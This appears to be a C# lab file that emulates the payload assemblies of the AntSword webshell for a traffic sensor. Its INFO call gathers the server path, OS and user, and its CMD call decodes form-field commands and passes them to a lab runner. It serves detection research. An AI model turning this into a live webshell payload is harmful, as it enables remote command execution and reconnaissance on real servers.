// TrafficSensor lab: the payload assemblies of the lab's AntSword ASPXCSHARP shell, written for the
// lab: one per call (-define:INFO, CMD or ECHO), a class Run handed the context through Equals().
// The client patches the call's output markers into Arguments; the command's arguments travel as
// AntSword's own form fields (two random characters, then base64).
using System;
using System.Text;
using System.Web;

public class Run
{
    private static readonly string Patched = "LABARGS:~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~";

    public override bool Equals(object o)
    {
        var context = o as HttpContext;
        if (context == null) return false;
        var marks = LabRunner.Arguments(Patched);
        string output;
        try { output = Call(context); }
        catch (Exception e) { output = "ERROR:// " + e.Message; }
        context.Response.Write(marks["start"] + output + marks["end"]);
        return true;
    }

    public override int GetHashCode() { return 0; }

    private static string Field(HttpContext context, string name)
    {
        var v = context.Request.Form[name];
        return v == null || v.Length < 2 ? "" : Encoding.UTF8.GetString(Convert.FromBase64String(v.Substring(2)));
    }

    private static string Call(HttpContext context)
    {
#if INFO
        return context.Server.MapPath(".") + "\t/\t" + Environment.OSVersion + "\t" + Environment.UserName;
#elif CMD
        // x2 is `cd "DIR";COMMAND;echo TAG;pwd;echo TAG`: the lab runs COMMAND and answers the rest itself.
        var script = Field(context, "x2");
        var parts = script.Split(';');
        var output = parts.Length > 1 ? LabRunner.Run(parts[1]) : "";
        if (parts.Length > 4) output += parts[2].Substring(5) + "\n" + context.Server.MapPath(".") + "\n" + parts[4].Substring(5) + "\n";
        return output;
#else
        return "1";
#endif
    }
}
